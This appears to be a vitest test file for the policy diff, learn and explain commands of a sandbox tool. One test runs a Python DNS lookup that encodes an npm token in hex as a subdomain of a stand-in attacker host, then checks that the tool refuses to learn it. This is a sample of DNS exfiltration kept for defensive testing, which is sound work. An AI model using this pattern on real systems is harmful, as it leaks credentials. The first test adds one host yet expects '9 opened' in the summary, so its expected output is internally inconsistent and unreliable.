import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { Place } from './cofferdam.fixture.ts';

let place: Place;
beforeEach(() => {
  place = new Place();
});
afterEach(() => place.remove());

function file(name: string, text: string): string {
  writeFileSync(join(place.directory, name), text);
  return name;
}

describe('cofferdam policy diff', () => {
  test('says what is opened in one line a thing, and ends with 1', async () => {
    const old = file('old.yaml', 'version: 1\nzones: {untrusted: {egress: {allow: [a.test]}}}\n');
    const fresh = file(
      'new.yaml',
      'version: 1\nzones: {untrusted: {egress: {allow: [a.test, "b.test:8443"]}}}\n',
    );
    const ran = await place.run(['policy', 'diff', old, fresh]);
    expect(ran.stdout).toBe(
      'zone untrusted\n  + opened  egress.allow  b.test port 8443  anything\nWIDENED  9 opened, 0 changed, 0 closed\n',
    );
    expect(ran.status).toBe(1);
    const json = JSON.parse((await place.run(['policy', 'diff', old, fresh, '--json'])).stdout) as {
      widened: boolean;
    };
    expect(json.widened).toBe(true);
  });

  test('ends with 0 when nothing is opened, also against the defaults', async () => {
    const none = file('none.yaml', 'version: 1\nzones: {untrusted: {egress: {allow: []}}}\n');
    const ran = await place.run(['policy', 'diff', 'defaults', none]);
    expect(ran.stdout).toContain('NARROWED');
    expect(ran.status).toBe(0);
    expect((await place.run(['policy', 'diff', none, none])).stdout).toBe(
      'SAME  every job may do just what it could\n',
    );
  });

  test('takes a file that is wrong or missing for no policy, with its place', async () => {
    const wrong = file('wrong.yaml', 'version: 1\nzonez: {}\n');
    const ran = await place.run(['policy', 'diff', 'defaults', wrong]);
    expect(ran.stderr).toContain('wrong.yaml:2:');
    expect(ran.status).toBe(2);
    expect((await place.run(['policy', 'diff', 'defaults', 'absent.yaml'])).status).toBe(2);
    expect((await place.run(['policy', 'diff', 'defaults', '/dev/zero'])).status).toBe(2);
  });
});

describe('cofferdam policy learn and explain', () => {
  test('turn a run that was denied into one that is not, and leave out what carries data', async () => {
    const policy = file('policy.yaml', 'version: 1\nzones: {untrusted: {egress: {allow: []}}}\n');
    mkdirSync(join(place.directory, 'work'));
    const ask =
      "import socket\nfor n in ['wanted.test', '6e706d5f746f6b656e3d61626364656667.evil.test']:\n  try: socket.getaddrinfo(n, 443)\n  except OSError: pass";
    const ran = await place.run(['exec', '--workdir', 'work', '--', 'python3', '-c', ask]);
    expect(ran.status).toBe(0);
    const learned = await place.run(['policy', 'learn', '--file', policy, '--write']);
    expect(learned.stdout).toMatch(/^\+ +- to: wanted\.test\n\+ +programs:\n\+ +- \/usr\/bin\/python3/m);
    expect(learned.stdout).toMatch(
      /left out {2}6e706d5f746f6b656e3d61626364656667\.evil\.test .*looks like data/,
    );
    expect(learned.status).toBe(1);
    const explained = await place.run([
      'policy',
      'explain',
      'python3',
      '--host',
      'wanted.test',
      '--file',
      policy,
    ]);
    expect(explained.stdout).toMatch(/^ALLOWED {2}wanted\.test:443 /);
    expect(explained.status).toBe(0);
    expect((await place.run(['policy', 'learn', 'latest', '--file', policy])).stdout).not.toContain(
      '+ added',
    );
  });

  test('explain an event of a record by its number', async () => {
    mkdirSync(join(place.directory, 'work'));
    const ask = "import socket\ntry: socket.getaddrinfo('wanted.test', 443)\nexcept OSError: pass";
    await place.run(['exec', '--workdir', 'work', '--', 'python3', '-c', ask]);
    const shown = await place.run(['audit', 'show', 'latest']);
    const number = /^ *(\d+) .*dns\.question/m.exec(shown.stdout)?.[1] ?? '';
    const explained = await place.run(['policy', 'explain', 'latest', number, '--file', 'defaults']);
    expect(explained.stdout).toContain('DENIED  wanted.test:443');
    expect(explained.stdout).toContain('then    denied (not-on-allowlist)');
    // By the program that asked, and for no other.
    expect(explained.stdout).toMatch(/line {4}- .*wanted\.test:443 {2}by \/usr\/bin\/python3/);
    expect(explained.status).toBe(1);
    expect((await place.run(['policy', 'explain', 'latest', '0'])).status).toBe(2);
  });
});
